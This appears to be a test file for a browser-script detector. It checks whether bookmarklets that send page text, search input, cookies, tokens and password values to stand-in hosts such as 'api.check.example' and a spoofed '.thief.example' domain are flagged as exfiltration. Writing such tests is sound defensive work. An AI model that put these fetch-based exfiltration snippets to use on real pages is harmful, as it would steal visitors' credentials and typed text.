import { readFileSync } from "node:fs";
import { afterAll, describe, expect, it } from "vitest";
import { openTestBrowser, runBookmarklet, runSample, seen } from "./canary.test-support.ts";

const browser = openTestBrowser();
afterAll(() => browser.close());

const TIMEOUT_MS = 60_000;
const HOST = "api.check.example";
const seed = (slug: string) =>
	readFileSync(new URL(`../../../supabase/seed/scripts/${slug}/script.js`, import.meta.url), "utf8");
/** Sends something after a question, and reads the response. */
const asks = (question: string, what: string, host = HOST) =>
	`if (confirm(${JSON.stringify(question)})) fetch("https://${host}/v2", { method: "POST", body: ${what} }).then((answer) => answer.text()).then((text) => { document.title = text.length; });`;
const ARTICLE = 'document.querySelector("main").innerText';
const NAMED = `Send the text of this page to ${HOST}?`;

describe("text that the visitor agreed to send", () => {
	it.each([
		["the seed Grammar Check", seed("grammar-check")],
		[
			"a form that is named by its site",
			`javascript:${asks("Send the search to check.example?", 'document.querySelector("#search").value')}`,
		],
	])(
		"is no evidence: %s",
		async (_what, code) => {
			const report = await runBookmarklet(browser, code);
			expect([report.answer, seen(report)]).toEqual(["ran", []]);
			expect(report.requests).toBeGreaterThan(0);
		},
		TIMEOUT_MS,
	);

	it.each([
		["the question names nobody", asks("Send the text of this page?", ARTICLE)],
		["it names a host of which the receiver is a part", asks(`Send it to ${HOST}.thief.example?`, ARTICLE)],
		["there is no question", `fetch("https://${HOST}/v2", { method: "POST", body: ${ARTICLE} });`],
	])(
		"is evidence when %s",
		async (_what, code) => {
			expect(seen(await runBookmarklet(browser, `javascript:${code}`))).toContain(`typed>${HOST}`);
		},
		TIMEOUT_MS,
	);

	it(
		"does not excuse cookies, passwords and tokens",
		async () => {
			const code = asks(
				`Send the text to ${HOST}?`,
				'document.cookie + localStorage.getItem("token") + document.querySelector("#password").value',
			);
			expect(seen(await runBookmarklet(browser, `javascript:${code}`))).toContain(`cookie>${HOST}`);
		},
		TIMEOUT_MS,
	);

	it(
		"does not excuse a script that asks by itself, on every page",
		async () => {
			const code = `addEventListener("change", () => { ${asks(NAMED, 'document.querySelector("#editor").innerText + document.querySelector("#search").value')} });`;
			expect(seen(await runSample(browser, code))).toContain(`typed>${HOST}`);
		},
		TIMEOUT_MS,
	);
});
